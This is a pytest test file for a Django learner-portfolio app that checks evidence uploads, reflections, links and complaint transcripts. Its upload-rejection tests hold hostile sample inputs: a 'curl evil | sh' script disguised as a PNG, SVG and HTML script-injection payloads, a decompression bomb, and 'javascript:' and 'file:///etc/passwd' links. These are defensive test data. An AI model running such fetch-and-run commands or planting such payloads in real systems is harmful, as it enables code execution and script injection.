from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from evidence.models import Evidence, TranscriptMessage
from tests.evidence.factories import bomb_png, jpeg_with_gps, png_bytes

pytestmark = pytest.mark.django_db


def add_url(portfolio, kind):
    return reverse("evidence:add", kwargs={"portfolio_pk": portfolio.pk, "kind": kind})


def stored_files(settings):
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def test_a_learner_uploads_a_screenshot(client, learner, portfolio, settings):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "file"),
        {
            "upload": SimpleUploadedFile("Facebook reply.png", png_bytes(), content_type="image/png"),
            "title": "",
            "occurred_on": "2026-03-02",
            "platform": "facebook",
            "captured_at": "2026-03-02T10:15",
        },
    )

    evidence = Evidence.objects.get(portfolio=portfolio)
    assert response.status_code == 302
    # An image goes to its page, where the personal-data check shows its findings.
    assert response["Location"].endswith(f"/evidence/{evidence.pk}/#personal-data")
    assert evidence.kind == "file"
    assert evidence.title == "Facebook reply.png"
    assert evidence.content_type == "image/png"
    assert len(evidence.sha256) == 64
    assert evidence.platform == "facebook"
    assert evidence.captured_at is not None
    # Stored under a random name in the portfolio's folder, never the learner's name.
    assert evidence.file.name.startswith(f"evidence/{portfolio.pk}/")
    assert "Facebook" not in evidence.file.name
    assert len(stored_files(settings)) == 1


def test_a_photo_loses_its_location_when_uploaded(client, learner, portfolio):
    client.force_login(learner)

    client.post(
        add_url(portfolio, "file"),
        {
            "upload": SimpleUploadedFile("me.jpg", jpeg_with_gps()),
            "title": "Team photo",
            "occurred_on": "2026-03-02",
        },
    )

    with Evidence.objects.get().file.open("rb") as stored:
        content = stored.read()
    assert b"Exif" not in content
    assert b"PhoneMaker" not in content


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("script.png", b"#!/bin/sh\ncurl evil | sh\n", "a script"),
        (
            "evil.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>',
            "Files ending",
        ),
        (
            "logo.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG images",
        ),
        ("bomb.png", bomb_png(), "too large to process"),
        ("page.txt", b"<html><script>alert(1)</script></html>", "HTML"),
    ],
)
def test_it_refuses_hostile_files_with_a_reason_and_stores_nothing(
    client, learner, portfolio, settings, name, content, reason
):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "file"),
        {"upload": SimpleUploadedFile(name, content), "title": "x", "occurred_on": "2026-03-02"},
    )

    assert response.status_code == 200
    assert reason in response.content.decode()
    assert not Evidence.objects.exists()
    assert stored_files(settings) == []


def test_it_refuses_an_empty_file(client, learner, portfolio, settings):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "file"),
        {"upload": SimpleUploadedFile("empty.png", b""), "title": "x", "occurred_on": "2026-03-02"},
    )

    # Django's own check speaks first for a zero-byte upload; either way nothing is kept.
    assert "empty" in response.content.decode()
    assert not Evidence.objects.exists()
    assert stored_files(settings) == []


def test_it_refuses_a_file_over_the_limit_with_the_sizes(client, learner, portfolio, settings):
    settings.MAX_UPLOAD_BYTES = 1024
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "file"),
        {"upload": SimpleUploadedFile("big.csv", b"a,b\n" * 600), "title": "x", "occurred_on": "2026-03-02"},
    )

    assert "The file is 2 KB; the limit is 1 KB." in response.content.decode()
    assert not Evidence.objects.exists()


def test_a_learner_writes_a_reflection(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "reflection"),
        {
            "title": "What I learnt",
            "occurred_on": "2026-03-03",
            "body": "## Lessons\n\nAcknowledge **first**.",
        },
    )

    assert response.status_code == 302
    evidence = Evidence.objects.get()
    detail = client.get(evidence.get_absolute_url()).content.decode()
    assert "<strong>first</strong>" in detail


def test_a_reflection_needs_its_text(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(add_url(portfolio, "reflection"), {"title": "Empty", "occurred_on": "2026-03-03"})

    assert response.status_code == 200
    assert not Evidence.objects.exists()


def test_a_learner_adds_a_link_that_is_never_fetched(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "link"),
        {
            "title": "Trustpilot reply",
            "occurred_on": "2026-03-03",
            "url": "https://uk.trustpilot.example/review/1",
        },
    )

    assert response.status_code == 302
    assert Evidence.objects.get().url == "https://uk.trustpilot.example/review/1"


@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "ftp://example.org/x"])
def test_it_refuses_links_that_are_not_web_addresses(client, learner, portfolio, url):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "link"), {"title": "Bad", "occurred_on": "2026-03-03", "url": url}
    )

    assert response.status_code == 200
    assert not Evidence.objects.exists()


def transcript_data(**overrides):
    data = {
        "title": "Late delivery on X",
        "occurred_on": "2026-03-07",
        "platform": "x",
        "visibility": "public",
        "scenario": "complaint",
        "origin": "simulated",
        "account_handle": "@FernleafHome",
        "description": "A customer's sofa did not arrive.",
        "messages-TOTAL_FORMS": "3",
        "messages-INITIAL_FORMS": "0",
        "messages-MIN_NUM_FORMS": "0",
        "messages-MAX_NUM_FORMS": "200",
        "messages-0-author": "customer",
        "messages-0-sent_at": "2026-03-07T09:00",
        "messages-0-text": "Still waiting for my sofa. Third time I've asked.",
        "messages-1-author": "organisation",
        "messages-1-sent_at": "2026-03-07T09:40",
        "messages-1-text": "We're sorry. Please DM us so we can look into it.",
        "messages-1-stage": "acknowledge",
        "messages-1-annotation": "Moved it to private to protect the customer's details.",
        "messages-2-author": "",
        "messages-2-sent_at": "",
        "messages-2-text": "",
    }
    data.update(overrides)
    return data


def test_a_learner_records_a_transcript_and_sees_the_response_time(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(add_url(portfolio, "transcript"), transcript_data())

    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert list(evidence.messages.values_list("position", "author", "stage")) == [
        (1, "customer", ""),
        (2, "organisation", "acknowledge"),
    ]
    page = client.get(evidence.get_absolute_url()).content.decode()
    assert "replied after 40 min" in page
    assert "chat-msg--organisation" in page
    assert "Step: Acknowledge" in page


def test_a_customer_message_cannot_have_a_complaint_stage(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "transcript"), transcript_data(**{"messages-0-stage": "resolve"})
    )

    assert response.status_code == 200
    assert "Only the organisation" in response.content.decode()
    assert not Evidence.objects.exists()


def test_messages_out_of_time_order_are_refused_at_the_row(client, learner, portfolio):
    client.force_login(learner)

    response = client.post(
        add_url(portfolio, "transcript"), transcript_data(**{"messages-1-sent_at": "2026-03-07T08:00"})
    )

    assert "earlier than the one before it" in response.content.decode()
    assert not TranscriptMessage.objects.exists()


def test_editing_a_transcript_replaces_its_messages(client, learner, portfolio):
    client.force_login(learner)
    client.post(add_url(portfolio, "transcript"), transcript_data())
    evidence = Evidence.objects.get()
    data = transcript_data(
        **{
            "messages-INITIAL_FORMS": "2",
            "messages-1-DELETE": "on",
            "messages-2-author": "organisation",
            "messages-2-sent_at": "2026-03-07T11:00",
            "messages-2-text": "Your sofa is booked for Friday.",
            "messages-2-stage": "resolve",
        }
    )

    response = client.post(reverse("evidence:edit", args=[portfolio.pk, evidence.pk]), data)

    assert response.status_code == 302
    assert list(evidence.messages.values_list("author", "stage")) == [
        ("customer", ""),
        ("organisation", "resolve"),
    ]
